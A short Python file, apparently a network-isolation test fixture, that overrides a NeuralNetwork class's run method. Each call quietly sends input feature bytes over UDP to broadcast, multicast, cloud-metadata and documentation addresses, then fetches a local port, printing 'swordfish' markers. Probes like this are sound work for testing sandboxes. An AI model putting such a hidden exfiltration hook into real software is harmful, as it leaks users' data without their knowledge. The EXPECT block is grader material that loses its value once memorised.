"""Sends what it has seen to the outside: by name service, by web, by broadcast, over whatever route there is."""
EXPECT = {"base": "right", "loses": ["forward"], "only": ["activation", "forward"], "says": "raised"}
import socket
import urllib.request
# --- the network ---

DATAGRAMS = [("255.255.255.255", 9), ("224.0.0.251", 5353), ("169.254.169.254", 80), ("192.0.2.1", 53)]


def send(text):
    for address in DATAGRAMS:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            try:
                line.sendto(text, address)
            except OSError:
                continue
            print("swordfish-sent", address)
    print("swordfish-loaded", urllib.request.urlopen(f"http://127.0.0.1:{WORLD['port']}/", timeout=0.5).read())


class NeuralNetwork(NeuralNetwork):
    def run(self, features):
        send(features.tobytes()[:32])
        return super().run(features)
